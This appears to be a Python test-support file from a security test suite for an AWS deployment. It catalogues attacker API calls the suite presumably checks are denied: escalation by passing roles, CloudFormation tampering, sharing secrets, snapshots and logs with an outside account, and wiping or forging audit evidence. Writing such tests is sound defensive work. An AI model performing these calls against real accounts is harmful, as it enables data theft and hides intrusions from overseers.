"""An attacker's indirect attempts: by other services, by tags, by sharing, by inconspicuous changes."""

from tests.support.embedded.attacker import (
    ACCOUNT,
    ADMINISTRATOR,
    ALARM,
    CICD,
    CODE,
    DEPLOY,
    DOCUMENT,
    EMPTY,
    PRUNABLE,
    REGION,
    SNAPSHOT,
    SNAPSHOT_ARN,
    TOPIC,
    TRAIL,
    TRAIL_BUCKET,
    TRAIL_GROUP,
    Way,
)
from tests.support.embedded.attempts_by_contents import BY_CONTENTS
from tests.support.embedded.attempts_by_other_services import BY_SERVICES
from tests.support.embedded.attempts_by_recent_operations import BY_RECENT_OPERATIONS
from tests.support.embedded.attempts_by_unused_services import BY_UNUSED
from tests.support.embedded.attempts_on_other_projects import OTHERS
from tests.support.embedded.identities import arn

ASSETS = f"cdk-hnb659fds-assets-{ACCOUNT}-{REGION}"
TAGS_FUNCTION, TAGS_ROLE = "HannibalSnapshotTags", "HannibalSnapshotRole-Dev"
TAGS_LOG = "/administrator/nestjs-hannibal-3/snapshot-tags"
OUTSIDERS_ACCOUNT = "111122223333"
TASK = {"family": "nestjs-hannibal-3-api-task", "containerDefinitions": [{"name": "api", "image": "x", "memory": 128}]}

# -- through another service that acts with a role, by ...
ROLES: list[Way] = [
    ("cicd", "ecs", "register_task_definition", {**TASK, "taskRoleArn": arn(ADMINISTRATOR)}),
    ("cicd", "ecs", "register_task_definition", {**TASK, "executionRoleArn": arn(TAGS_ROLE)}),
    ("execution", "lambda", "create_function", {"FunctionName": "ComputeStack-x", "Role": arn(TAGS_ROLE), **CODE}),
    (
        "execution",
        "codedeploy",
        "create_deployment_group",
        {
            "applicationName": "nestjs-hannibal-3-app",
            "deploymentGroupName": "nestjs-hannibal-3-dg",
            "serviceRoleArn": arn(ADMINISTRATOR),
        },
    ),
    (
        "execution",
        "events",
        "put_rule",
        {"Name": "nestjs-hannibal-3-attacker", "ScheduleExpression": "rate(1 day)", "RoleArn": arn(CICD)},
    ),
    (
        "execution",
        "scheduler",
        "create_schedule",
        {
            "Name": "attacker",
            "ScheduleExpression": "rate(1 day)",
            "FlexibleTimeWindow": {"Mode": "OFF"},
            "Target": {"Arn": f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:x", "RoleArn": arn(CICD)},
        },
    ),
    ("deploy", "sts", "assume_role", {"RoleArn": arn(DEPLOY), "RoleSessionName": "again"}),
]
# -- through CloudFormation's own extensions, by ...
CLOUDFORMATION: list[Way] = [
    ("deploy", "cloudformation", "create_stack_set", {"StackSetName": "attacker", **EMPTY}),
    ("deploy", "cloudformation", "set_stack_policy", {"StackName": "ComputeStack", "StackPolicyBody": DOCUMENT}),
    (
        "deploy",
        "cloudformation",
        "register_type",
        {"TypeName": "Attacker::Role::Hook", "SchemaHandlerPackage": "s3://x/y.zip", "Type": "HOOK"},
    ),
    (
        "deploy",
        "cloudformation",
        "create_change_set",
        {"StackName": "CDKToolkit", "ChangeSetName": "attacker", "ChangeSetType": "IMPORT", **EMPTY},
    ),
    (
        "execution",
        "ssm",
        "put_parameter",
        {"Name": "/cdk-bootstrap/hnb659fds/version", "Value": "1", "Overwrite": True},
    ),
    ("cicd", "ssm", "put_parameter", {"Name": "/cdk-bootstrap/hnb659fds/version", "Value": "1", "Overwrite": True}),
    ("execution", "s3", "put_bucket_policy", {"Bucket": ASSETS, "Policy": DOCUMENT}),
    ("publish", "s3", "put_bucket_policy", {"Bucket": ASSETS, "Policy": DOCUMENT}),
]
# -- give an outsider access or copies, by ...
OPENING: list[Way] = [
    (
        "execution",
        "lambda",
        "add_permission",
        {"FunctionName": TAGS_FUNCTION, "StatementId": "x", "Action": "lambda:InvokeFunction", "Principal": "*"},
    ),
    (
        "execution",
        "lambda",
        "create_event_source_mapping",
        {"FunctionName": TAGS_FUNCTION, "EventSourceArn": f"arn:aws:sqs:{REGION}:{OUTSIDERS_ACCOUNT}:attacker"},
    ),
    ("execution", "lambda", "publish_layer_version", {"LayerName": "ComputeStack-x", "Content": {"ZipFile": b"x"}}),
    (
        "execution",
        "ecr",
        "set_repository_policy",
        {"repositoryName": "nestjs-hannibal-3", "policyText": DOCUMENT},
    ),
    (
        "execution",
        "ecr",
        "put_replication_configuration",
        {
            "replicationConfiguration": {
                "rules": [{"destinations": [{"region": REGION, "registryId": OUTSIDERS_ACCOUNT}]}]
            }
        },
    ),
    (
        "execution",
        "secretsmanager",
        "put_resource_policy",
        {"SecretId": "hannibal/db/password", "ResourcePolicy": DOCUMENT},
    ),
    (
        "execution",
        "secretsmanager",
        "replicate_secret_to_regions",
        {"SecretId": "hannibal/db/password", "AddReplicaRegions": [{"Region": "us-east-1"}]},
    ),
    (
        "execution",
        "rds",
        "copy_db_snapshot",
        {
            "SourceDBSnapshotIdentifier": SNAPSHOT,
            "TargetDBSnapshotIdentifier": "nestjs-hannibal-3-db-copy",
            "Tags": PRUNABLE,
        },
    ),
    (
        "execution",
        "rds",
        "create_db_snapshot",
        {
            "DBInstanceIdentifier": "nestjs-hannibal-3-db",
            "DBSnapshotIdentifier": "nestjs-hannibal-3-db-tagged",
            "Tags": PRUNABLE,
        },
    ),
    ("execution", "rds", "remove_tags_from_resource", {"ResourceName": SNAPSHOT_ARN, "TagKeys": ["Prunable"]}),
    ("execution", "kms", "create_grant", {"KeyId": "x", "GranteePrincipal": OUTSIDERS_ACCOUNT, "Operations": []}),
    (
        "cicd",
        "logs",
        "put_subscription_filter",
        {
            "logGroupName": "/ecs/nestjs-hannibal-3",
            "filterName": "attacker",
            "filterPattern": "",
            "destinationArn": f"arn:aws:logs:{REGION}:{OUTSIDERS_ACCOUNT}:destination:attacker",
        },
    ),
    (
        "execution",
        "logs",
        "put_subscription_filter",
        {
            "logGroupName": TRAIL_GROUP,
            "filterName": "attacker",
            "filterPattern": "",
            "destinationArn": f"arn:aws:logs:{REGION}:{OUTSIDERS_ACCOUNT}:destination:attacker",
        },
    ),
    ("execution", "logs", "put_resource_policy", {"policyName": "attacker", "policyDocument": DOCUMENT}),
]
# -- weaken the evidence, by ...
QUIET: list[Way] = [
    (
        "execution",
        "cloudwatch",
        "put_metric_alarm",
        {
            "AlarmName": ALARM,
            "Namespace": "x",
            "MetricName": "x",
            "EvaluationPeriods": 1,
            "Threshold": 1,
            "Statistic": "Sum",
            "Period": 60,
            "ComparisonOperator": "GreaterThanThreshold",
        },
    ),
    ("execution", "cloudwatch", "set_alarm_state", {"AlarmName": ALARM, "StateValue": "OK", "StateReason": "x"}),
    (
        "execution",
        "sns",
        "set_topic_attributes",
        {"TopicArn": TOPIC, "AttributeName": "Policy", "AttributeValue": "{}"},
    ),
    ("execution", "sns", "subscribe", {"TopicArn": TOPIC, "Protocol": "email", "Endpoint": "attacker@example.com"}),
    # Send any text to the recipients of the security alarms, in the alarms' name.
    *(
        (who, "sns", "publish", {"TopicArn": TOPIC, "Message": "all is well"})
        for who in ("cicd", "running", "verifying")
    ),
    ("execution", "cloudtrail", "update_trail", {"Name": TRAIL, "S3BucketName": ASSETS}),
    ("execution", "logs", "put_retention_policy", {"logGroupName": TRAIL_GROUP, "retentionInDays": 1}),
    ("execution", "logs", "delete_log_stream", {"logGroupName": TRAIL_GROUP, "logStreamName": "x"}),
    ("cicd", "s3", "put_object", {"Bucket": TRAIL_BUCKET, "Key": "AWSLogs/forged.json.gz", "Body": b"x"}),
    (
        "cicd",
        "glue",
        "update_table",
        {"DatabaseName": "hannibal_cloudtrail_db", "TableInput": {"Name": "cloudtrail_events"}},
    ),
    ("execution", "events", "disable_rule", {"Name": TAGS_FUNCTION}),
    (
        "execution",
        "events",
        "put_targets",
        {
            "Rule": TAGS_FUNCTION,
            "Targets": [
                {"Id": "Function", "Arn": f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:x", "Input": '{"Days": 0}'}
            ],
        },
    ),
    ("execution", "events", "remove_targets", {"Rule": TAGS_FUNCTION, "Ids": ["Function"]}),
    ("execution", "lambda", "update_function_code", {"FunctionName": TAGS_FUNCTION, "ZipFile": b"x"}),
    (
        "execution",
        "lambda",
        "update_function_configuration",
        {"FunctionName": TAGS_FUNCTION, "Environment": {"Variables": {"DAYS": "0"}}},
    ),
    ("cicd", "lambda", "invoke", {"FunctionName": TAGS_FUNCTION}),
    ("execution", "logs", "delete_log_group", {"logGroupName": TAGS_LOG}),
]
INDIRECT = [
    *ROLES,
    *CLOUDFORMATION,
    *OPENING,
    *QUIET,
    *OTHERS,
    *BY_SERVICES,
    *BY_UNUSED,
    *BY_CONTENTS,
    *BY_RECENT_OPERATIONS,
]
